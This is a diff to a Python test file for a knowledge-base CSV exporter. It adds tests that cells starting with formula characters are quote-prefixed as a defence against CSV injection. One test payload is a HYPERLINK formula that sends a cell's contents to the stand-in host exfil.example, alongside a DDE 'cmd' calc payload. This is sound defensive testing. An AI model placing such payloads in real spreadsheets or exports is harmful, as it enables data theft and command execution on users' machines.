@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import csv
+import io
 import json
 import re
 from pathlib import Path
@@ -10,12 +11,15 @@ from pathlib import Path
 import bibtexparser
 import feedparser
 import frictionless
+import pytest
 from icalendar import Calendar
 from jsonschema import Draft202012Validator, FormatChecker
 from referencing import Registry, Resource
 
 from cica_kb.collections import COLLECTIONS
+from cica_kb.exports import FORMULA_START, csv_text
 from cica_kb.loader import load_yaml
+from conftest import DataTree
 
 ROOT = Path(__file__).resolve().parents[1]
 
@@ -59,6 +63,26 @@ def test_meetings_and_states_csv_have_one_row_per_record(site: Path) -> None:
 def test_csv_opens_in_a_spreadsheet_as_utf8(site: Path) -> None:
     raw = (site / "data/states.csv").read_bytes()
     assert raw.startswith(b"\xef\xbb\xbf") and b"\r\n" in raw
+
+
+@pytest.mark.parametrize("start", FORMULA_START, ids=["equals", "plus", "minus", "at", "tab", "carriage-return"])
+def test_a_cell_a_spreadsheet_would_run_as_a_formula_starts_with_a_quote(tree: DataTree, start: str) -> None:
+    """CSV injection, made inert as OWASP advises: the cell is text in any spreadsheet; the JSON keeps the exact text."""
+    summary = start + 'HYPERLINK("https://exfil.example/?"&A1,"Open") and cmd|\' /C calc\'!A0'
+    practice = (tree.data / "practices/kz/law-on-volunteer-activity.yml").read_text(encoding="utf-8")
+    tree.write("practices/kz/law-on-volunteer-activity.yml", practice.replace("summary: It sets the aims, forms and support measures for volunteering.", f"summary: {json.dumps(summary)}"))
+    kb = tree.load()
+    assert kb.get("practices", "kz/law-on-volunteer-activity")["summary"] == summary
+    text = csv_text(kb, "practices")
+    row = next(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline="")))
+    assert row["summary"] == "'" + summary
+    assert f',"\'{start}HYPERLINK(' in text  # quoted: a spreadsheet that splits on ";" keeps the cell whole
+
+
+def test_a_cell_that_only_contains_a_formula_character_later_is_unchanged(tree: DataTree) -> None:
+    kb = tree.load()
+    row = next(csv.DictReader(io.StringIO(csv_text(kb, "practices").removeprefix("\ufeff"))))
+    assert row["title"] == 'Law "On Volunteer Activity"' and row["year"] == "2016" and row["country"] == "KZ"
 
 
 def test_every_json_file_validates_against_the_published_schemas(site: Path) -> None:
